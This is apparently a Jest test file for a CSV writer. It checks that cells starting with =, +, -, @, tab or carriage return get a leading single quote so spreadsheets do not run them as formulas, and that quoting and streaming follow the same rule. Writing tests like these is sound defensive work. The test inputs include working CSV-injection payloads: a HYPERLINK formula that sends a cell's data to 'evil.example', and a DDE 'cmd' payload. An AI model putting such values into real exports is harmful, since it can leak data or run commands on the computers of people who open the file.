import { csvFile, csvStream, neutraliseCsvText } from './csv-writer';

describe('csv writer', () => {
  it('neutralises text that a spreadsheet would run as a formula (OWASP: a leading single quote)', () => {
    expect(neutraliseCsvText('=HYPERLINK("http://evil.example/?d="&A1,"x")')).toBe(
      `'=HYPERLINK("http://evil.example/?d="&A1,"x")`,
    );
    expect(neutraliseCsvText("+cmd|' /c calc'!A0")).toBe("'+cmd|' /c calc'!A0");
    expect(neutraliseCsvText('-2+3')).toBe("'-2+3");
    expect(neutraliseCsvText('@SUM(A1:A2)')).toBe("'@SUM(A1:A2)");
    expect(neutraliseCsvText('\t=1')).toBe("'\t=1");
    expect(neutraliseCsvText('\r=1')).toBe("'\r=1");
  });

  it('leaves other text and plain decimal numbers as they are', () => {
    expect(neutraliseCsvText('E001')).toBe('E001');
    expect(neutraliseCsvText('a=b')).toBe('a=b');
    expect(neutraliseCsvText('')).toBe('');
    expect(neutraliseCsvText('-12.5')).toBe('-12.5');
    expect(neutraliseCsvText('-3')).toBe('-3');
    // not a plain number: a sign alone, a plus sign, an exponent or a trailing formula
    expect(neutraliseCsvText('-')).toBe("'-");
    expect(neutraliseCsvText('+12')).toBe("'+12");
    expect(neutraliseCsvText('-1e3')).toBe("'-1e3");
    expect(neutraliseCsvText('-1+A1')).toBe("'-1+A1");
  });

  it('writes a file with a byte-order mark; numbers stay numbers, only strings are neutralised', () => {
    const file = csvFile([
      ['Row', 'Value'],
      [-5, '=1+1'],
      [3, null],
      [undefined, '-12.5'],
    ]).toString('utf8');
    expect(file).toBe("\uFEFFRow,Value\n-5,'=1+1\n3,\n,-12.5\n");
    expect(csvFile([['a'], ['@b']], { recordDelimiter: 'windows' }).toString('utf8')).toBe(
      "\uFEFFa\r\n'@b\r\n",
    );
  });

  it('quotes as RFC 4180 asks after neutralising', () => {
    expect(csvFile([['=A1,"x"']]).toString('utf8')).toBe(`\uFEFF"'=A1,""x"""\n`);
  });

  it('streams records keyed by column with the same rule', async () => {
    const csv = csvStream([
      { key: 'user', header: 'User' },
      { key: 'count', header: 'Count' },
    ]);
    const chunks: string[] = [];
    csv.on('data', (chunk: Buffer | string) => chunks.push(chunk.toString()));
    const done = new Promise((resolve) => csv.on('end', resolve));
    csv.write({ user: "+cmd|' /c calc'!A0", count: -1 });
    csv.write({ user: 'sysadmin', count: 2 });
    csv.end();
    await done;
    expect(chunks.join('')).toBe("\uFEFFUser,Count\n'+cmd|' /c calc'!A0,-1\nsysadmin,2\n");
  });
});
